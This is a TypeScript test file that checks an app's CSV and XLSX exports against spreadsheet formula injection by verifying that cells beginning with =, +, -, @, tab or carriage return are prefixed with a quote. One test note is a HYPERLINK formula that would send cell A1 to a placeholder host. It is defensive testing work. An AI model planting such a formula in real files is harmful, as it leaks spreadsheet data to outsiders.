import { randomUUID } from 'node:crypto'
import { beforeAll, describe, expect, it } from 'vitest'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { frenchText } from '@mutualis/domain'
import { db } from '@mutualis/api/db.ts'
import { toCsv } from '@mutualis/api/export/csv.ts'
import { toXlsx } from '@mutualis/api/export/xlsx.ts'
import { createHttpHandler } from '@mutualis/api/http/handler.ts'
import { anAction, aSignedInUser, aTerritory } from '../fixtures/builders.ts'
import { listenDuringTests } from '../fixtures/http-server.ts'

// OWASP « CSV injection »: a cell whose text starts with = + - @ (or a tab, a carriage return) is
// read as a formula by spreadsheets. A note typed by an editor must open as the text they typed.
const server = listenDuringTests(createHttpHandler(() => false))

const notes = [
  '=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir le compte rendu")',
  '+33 3 80 00 00 00 : rappeler la DGS',
  '-10 % sur le lot fournitures',
  '@SOMME(A1:A9)',
]
const plain = 'Convention signée en bureau'
let actionId: string

const csvCells = (text: string) => parse(text, { bom: true, delimiter: ';' }) as string[][]
async function xlsxCells(bytes: ArrayBuffer | Uint8Array) {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(bytes as ArrayBuffer)
  const cells: ExcelJS.Cell[][] = []
  workbook.worksheets[0].eachRow((row) => {
    const line: ExcelJS.Cell[] = []
    row.eachCell({ includeEmpty: true }, (cell) => line.push(cell))
    cells.push(line)
  })
  return cells
}

beforeAll(async () => {
  const territory = await aTerritory()
  const admin = await aSignedInUser(territory, { role: 'ADMIN' })
  const action = await anAction(territory, { title: 'Test des formules', instrument: 'GROUPEMENT_DE_COMMANDES', status: 'IN_PROGRESS' })
  actionId = action.gid
  for (const note of [...notes, plain]) {
    const { version } = await db.action.findUniqueOrThrow({ where: { id: action.id } })
    const result = await admin.client(
      `mutation ($input: RecordProgressInput!) { recordProgress(input: $input) { __typename ... on UserError { message } } }`,
      { input: { actionId, status: 'IN_PROGRESS', note, meeting: '@Bureau', date: '2025-06-12', clientMutationId: randomUUID(), expectedVersion: version } },
    )
    expect(result.data?.recordProgress.__typename, JSON.stringify(result)).toBe('RecordProgressSuccess')
  }
})

describe('notes that look like formulas, in the progress updates export', () => {
  it('open in CSV as the text typed, behind a single quote', async () => {
    const response = await fetch(`${server.origin}/export/progress-updates.csv?action=${actionId}`)
    const [header, ...rows] = csvCells(await response.text())
    const note = header.indexOf("Point d'avancement")
    expect(rows.map((row) => row[note]).sort()).toEqual([...notes.map((text) => `'${frenchText(text)}`), plain].sort())
    expect(rows.map((row) => row[header.indexOf('Instance')])).toEqual(rows.map(() => "'@Bureau"))
    expect(rows.map((row) => row[header.indexOf('Date')])).toEqual(rows.map(() => '12/06/2025'))
  })

  it('open in XLSX as text cells, behind a single quote, and no cell is a formula', async () => {
    const response = await fetch(`${server.origin}/export/progress-updates.xlsx?action=${actionId}`)
    const [header, ...rows] = await xlsxCells(await response.arrayBuffer())
    const note = header.findIndex((cell) => cell.value === "Point d'avancement")
    expect(rows.map((row) => row[note].value).sort()).toEqual([...notes.map((text) => `'${frenchText(text)}`), plain].sort())
    for (const cell of [...header, ...rows.flat()]) expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
    expect(rows.map((row) => row[0].value)).toEqual(rows.map(() => new Date('2025-06-12T00:00:00.000Z')))
  })
})

describe('the rule, cell by cell', () => {
  const date = new Date('2024-03-05T00:00:00.000Z')
  const header = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i']
  const row = ['\tTAB', '\rCR', '=1+1', ' =1+1', 'a=b', -3, 2.5, date, null]

  it('quotes text cells starting with = + - @ tab or carriage return, leaves numbers and dates typed', async () => {
    const [, csv] = csvCells(toCsv(header, [row]))
    expect(csv).toEqual(["'\tTAB", "'\rCR", "'=1+1", ' =1+1', 'a=b', '-3', '2,5', '05/03/2024', ''])
    const [, xlsx] = await xlsxCells(await toXlsx('Test', header, [row]))
    // XML reads a carriage return back as a line feed: the quote in front is what matters.
    expect(xlsx.map((cell) => cell.value)).toEqual(["'\tTAB", expect.stringMatching(/^'[\r\n]CR$/), "'=1+1", ' =1+1', 'a=b', -3, 2.5, date, null])
  })
})
